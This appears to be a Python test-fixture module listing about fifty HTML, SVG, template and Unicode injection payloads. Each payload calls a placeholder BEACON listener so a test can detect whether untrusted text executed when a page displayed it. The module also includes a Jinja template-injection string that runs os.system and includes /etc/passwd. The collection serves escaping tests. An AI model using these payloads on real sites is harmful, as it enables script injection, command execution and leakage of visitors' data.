"""Texts that would run, load or show something if a page took them for more than text."""

from __future__ import annotations

import re

# Every element carries the attribute `pwned`, every script sets `window.pwned` and calls the beacon.
RUN = "window.pwned=1;fetch('http://BEACON/run');alert(1)"
PAYLOADS: dict[str, str] = {
    "script": f"<script pwned>{RUN}</script>",
    "script in capitals": f"<ScRiPt pwned>{RUN}</sCrIpT>",
    "script from elsewhere": "<script pwned src=http://BEACON/x.js></script>",
    "script closed first": f"</script><script pwned>{RUN}</script>",
    "style closed first": f"</style><script pwned>{RUN}</script>",
    "title closed first": f"</title><script pwned>{RUN}</script>",
    "textarea closed first": f"</textarea><script pwned>{RUN}</script>",
    "comment closed first": f"--><script pwned>{RUN}</script><!--",
    "cdata closed first": f"]]><script pwned>{RUN}</script>",
    "out of json": f'"}}</script><script pwned>{RUN}</script>',
    "image that breaks": f'<img pwned src=x onerror="{RUN}">',
    "image of the beacon": "<img pwned src=http://BEACON/i.png>",
    "svg onload": f'<svg pwned onload="{RUN}">',
    "svg closed first": f'</svg></title><svg pwned onload="{RUN}">',
    "svg with a foreign object": f"<svg pwned><foreignObject><iframe pwned srcdoc='<script>{RUN}</script>'>",
    "svg that uses": "<svg pwned><use href='http://BEACON/s.svg#a'/></svg>",
    "svg that animates": f'<svg pwned><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "math link": f'<math pwned><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    "details that toggles": f'<details pwned open ontoggle="{RUN}">',
    "focus": f'<input pwned autofocus onfocus="{RUN}">',
    "javascript link": f'<a pwned href="javascript:{RUN}">x</a>',
    "bare javascript address": f"javascript:{RUN}",
    "data address": f'<iframe pwned src="data:text/html,<script>{RUN}</script>"></iframe>',
    "srcdoc": f'<iframe pwned srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": "<object pwned data=http://BEACON/o></object>",
    "embed": "<embed pwned src=http://BEACON/e>",
    "meta refresh": "<meta pwned http-equiv=refresh content='0;url=http://BEACON/m'>",
    "base": "<base pwned href=http://BEACON/>",
    "form": "<form pwned action=http://BEACON/f><button autofocus formaction=http://BEACON/g>x",
    "link to a style": "<link pwned rel=stylesheet href=http://BEACON/c.css>",
    "link that connects": "<link pwned rel=preconnect href=http://BEACON>",
    "style": "<style pwned>*{background:url(http://BEACON/b)}body{display:none}</style>",
    "style attribute": '" style="background:url(http://BEACON/sa);width:expression(alert(1))" pwned="',
    "out of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" pwned="',
    "out of a single quoted attribute": f"' onmouseover='{RUN}' pwned='",
    "out of a bare attribute": f"x onmouseover={RUN} pwned=1 ",
    "out of a tag": f'"><img pwned src=x onerror="{RUN}">',
    "template of jinja": "{{ cycler.__init__.__globals__.os.system('touch pwned') }}{% include '/etc/passwd' %}{# x #}",
    "template of another kind": f"${{{RUN}}}#{{{RUN}}}[[{RUN}]]<%= 1 %>",
    "format string": "{0.__class__}%s%(x)s{verdict.run}",
    "nul": f"<scr\x00ipt pwned>{RUN}</scr\x00ipt>",
    "right to left": f'\u202e<img pwned src=x onerror="{RUN}">\u2066',
    "wide angles": f"\uff1cscript pwned\uff1e{RUN}\uff1c/script\uff1e",
    "line separator": f'\u2028<img pwned\u2029src=x onerror="{RUN}">',
    "half a surrogate pair, replaced": f'\ufffd<img pwned src=x onerror="{RUN}">',
    "entities": "&lt;img pwned src=x onerror=alert(1)&gt;&#60;script pwned&#62;",
    "slot and template": f"<template pwned shadowrootmode=open><script>{RUN}</script></template>",
    "custom element": f'<x-a pwned tabindex=1 onfocus="{RUN}" autofocus>',
    "noscript": f'<noscript><p pwned title="</noscript><img src=x onerror={RUN}>">',
    "portal": "<portal pwned src=http://BEACON/p></portal><fencedframe pwned></fencedframe>",
    "terminal": "\x1b[2J\x1b]8;;http://BEACON/t\x07x\x1b]8;;\x07[red]x[/red][link=http://BEACON/r]x[/link]",
}


def payloads(beacon: str) -> dict[str, str]:
    """The payloads, with the address of a listener in them."""
    return {name: text.replace("BEACON", beacon) for name, text in PAYLOADS.items()}


def tame(text: str) -> str:
    """A text of the same length in which no character means anything.

    >>> tame("<b onclick=x>")
    'xbxonclickxxx'
    """
    return re.sub(r"[^A-Za-z0-9]", "x", text)
